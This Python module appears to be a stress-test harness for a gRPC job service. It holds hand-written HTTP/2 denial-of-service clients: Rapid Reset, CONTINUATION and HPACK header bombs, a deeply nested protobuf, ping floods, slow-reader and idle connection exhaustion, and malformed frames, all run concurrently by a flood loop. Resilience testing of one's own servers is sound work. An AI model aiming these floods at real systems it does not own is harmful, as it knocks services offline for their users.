"""Rude clients: each is a coroutine that does one bad thing to a server, over and over, until it is cancelled.

They speak HTTP/2 by hand, because libraries of gRPC are too polite for most of it.
"""

import asyncio
import contextlib
import os
import random
import socket
import struct
from collections.abc import Awaitable, Callable, Mapping

from bench.flood import http2
from proxx.api.jobs.v1 import job_service_pb2 as pb

GET_JOB = "/proxx.api.jobs.v1.JobService/GetJob"
WATCH = "/proxx.api.jobs.v1.JobService/WatchJobs"
SUBMIT = "/proxx.api.jobs.v1.JobService/SubmitJob"
HUGE_BYTES = 16 * 1024 * 1024 - 64
STREAMS_BEFORE_ANEW = 20_000
PAUSE_SECONDS = 0.2


class Line:
    """A connection whose answers are read and thrown away, unless it is told not to."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, *, reads: bool) -> None:
        """Take both ends."""
        self.writer = writer
        self._reading = asyncio.create_task(_drain(reader, writer)) if reads else None

    async def send(self, frames: bytes) -> None:
        """Send, as fast as the other side takes it."""
        self.writer.write(frames)
        await self.writer.drain()

    async def close(self) -> None:
        """Let go."""
        if self._reading is not None:
            self._reading.cancel()
        self.writer.transport.abort()


async def _drain(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Read frames; answer SETTINGS and PING, as a server expects it."""
    with contextlib.suppress(OSError, asyncio.IncompleteReadError):
        while True:
            head = await reader.readexactly(9)
            payload = await reader.readexactly(struct.unpack(">I", b"\0" + head[:3])[0])
            if head[3] in (http2.SETTINGS, http2.PING) and not head[4] & http2.ACK:
                answer = payload if head[3] == http2.PING else b""
                writer.write(http2.frame(head[3], flags=http2.ACK, payload=answer))
            elif head[3] == http2.DATA and payload:
                writer.write(http2.frame(http2.WINDOW_UPDATE, payload=struct.pack(">I", len(payload))))


@contextlib.asynccontextmanager
async def line(address: str, *, reads: bool = True, first: bytes = http2.PREFACE + http2.settings()):  # type: ignore[no-untyped-def]
    """Connect, send `first`, and let go at the end."""
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    opened = Line(reader, writer, reads=reads)
    try:
        await opened.send(first)
        yield opened
    finally:
        await opened.close()


async def rapid_reset(address: str) -> None:
    """Open streams and reset each at once (CVE-2023-44487)."""
    block = http2.request_headers(authority=address, path=GET_JOB)
    reset = struct.pack(">I", http2.CANCEL)
    async with line(address) as opened:
        for stream in range(1, 2 * STREAMS_BEFORE_ANEW, 2):
            frames = http2.headers(stream, block) + http2.frame(http2.RST_STREAM, stream=stream, payload=reset)
            await opened.send(frames)


async def pings(address: str) -> None:
    """Ping without pause."""
    async with line(address) as opened:
        while True:
            await opened.send(http2.frame(http2.PING, payload=os.urandom(8)) * 64)


async def slow_reader(address: str) -> None:
    """Open watches and never read what they say, nor allow more than the first window."""
    block = http2.request_headers(authority=address, path=WATCH)
    body = http2.message(pb.WatchJobsRequest(include_progress=True).SerializeToString())
    first = http2.PREFACE + http2.settings({http2.INITIAL_WINDOW_SIZE: 100})
    async with line(address, reads=False, first=first) as opened:
        for stream in range(1, 200, 2):
            await opened.send(http2.headers(stream, block) + http2.data(stream, body))
        await asyncio.sleep(3600)


async def idle(address: str) -> None:
    """Hold a connection and say nothing more."""
    async with line(address):
        await asyncio.sleep(3600)


async def silent(address: str) -> None:
    """Connect and say nothing at all."""
    async with line(address, first=b""):
        await asyncio.sleep(3600)


async def huge_message(address: str) -> None:
    """Send a JobSpec of almost 16 MiB that is none, as one call after another."""
    block = http2.request_headers(authority=address, path=SUBMIT)
    body = http2.message(pb.SubmitJobRequest(request_id="huge", spec_json=" " * HUGE_BYTES).SerializeToString())
    async with line(address) as opened:
        for stream in range(1, 2000, 2):
            await opened.send(http2.headers(stream, block))
            for place in range(0, len(body), 1 << 16):
                await opened.send(http2.data(stream, body[place : place + (1 << 16)], end_stream=False))
            await opened.send(http2.data(stream, b""))


async def unfinished(address: str) -> None:
    """Begin calls whose message never comes."""
    block = http2.request_headers(authority=address, path=SUBMIT)
    async with line(address) as opened:
        for stream in range(1, 200, 2):
            await opened.send(http2.headers(stream, block) + http2.data(stream, b"\0\0\xff\xff\xff", end_stream=False))
        await asyncio.sleep(3600)


async def header_bomb(address: str) -> None:
    """Send header blocks of a megabyte over many CONTINUATION frames (CVE-2024-27316 and its kin)."""
    more = tuple((f"x-{number}", "a" * 1000) for number in range(1000))
    block = http2.request_headers(authority=address, path=GET_JOB, more=more)
    async with line(address) as opened:
        for stream in range(1, 2000, 2):
            await opened.send(http2.headers(stream, block, end_stream=True))


async def hpack_bomb(address: str) -> None:
    """Index one large field and repeat it by reference: a little on the wire, much in memory (CVE-2023-33953)."""
    field = b"\x40\x01x" + b"\x7f\x81\x1e" + b"a" * 3968  # literal with indexing; 127 + 3841 octets
    base = http2.request_headers(authority=address, path=GET_JOB)
    async with line(address) as opened:
        for stream in range(1, 2000, 2):
            await opened.send(http2.headers(stream, base + field + b"\xbe" * 12_000, end_stream=True))


async def garbage(address: str) -> None:
    """Send bytes: without a preface, behind one, and as frames that no rule allows."""
    random_bytes = random.Random(os.getpid()).randbytes
    kinds = (
        random_bytes(4096),
        http2.PREFACE + random_bytes(4096),
        http2.PREFACE + http2.settings() + http2.frame(255, flags=255, stream=2**31 - 1, payload=random_bytes(999)),
        http2.PREFACE + http2.settings() + http2.headers(1, random_bytes(500)),
        http2.PREFACE + http2.settings() + http2.frame(http2.CONTINUATION, flags=4, stream=7, payload=b"x"),
        http2.PREFACE + http2.settings() + http2.frame(http2.WINDOW_UPDATE, stream=0, payload=b"\x7f\xff\xff\xff") * 3,
        b"GET / HTTP/1.1\r\nHost: proxx\r\n\r\n",
        b"\x16\x03\x01\x02\x00" + random_bytes(512),
    )
    for first in kinds:
        async with line(address, first=first):
            await asyncio.sleep(0.01)


async def bad_protobuf(address: str) -> None:
    """Send messages that are no protobuf, and one that nests without end (CVE-2025-4565)."""
    nested = b""
    for _ in range(3000):
        size = len(nested)
        length = bytes([size & 127 | 128, size >> 7]) if size > 127 else bytes([size])
        nested = b"\x12" + length + nested
    bodies = (b"\xff" * 100, nested, b"\x0a\xff\xff\xff\xff\x0f", b"\x08" * 1000, b"")
    block = http2.request_headers(authority=address, path=SUBMIT)
    async with line(address) as opened:
        for stream in range(1, 2 * STREAMS_BEFORE_ANEW, 2):
            body = http2.message(bodies[stream // 2 % len(bodies)])
            await opened.send(http2.headers(stream, block) + http2.data(stream, body))
            await asyncio.sleep(0.001)


RUDE: Mapping[str, Callable[[str], Awaitable[None]]] = {
    "rapid_reset": rapid_reset, "pings": pings, "slow_reader": slow_reader, "idle": idle, "silent": silent,
    "huge_message": huge_message, "unfinished": unfinished, "header_bomb": header_bomb, "hpack_bomb": hpack_bomb,
    "garbage": garbage, "bad_protobuf": bad_protobuf,
}  # fmt: skip


async def flood(name: str, *, address: str, connections: int) -> None:
    """Let so many clients do one thing until cancelled; one whose connection is closed connects anew."""

    async def again() -> None:
        while True:
            with contextlib.suppress(OSError, socket.gaierror):
                await RUDE[name](address)
            await asyncio.sleep(PAUSE_SECONDS if name in ("idle", "silent") else 0)

    await asyncio.gather(*(again() for _ in range(connections)))
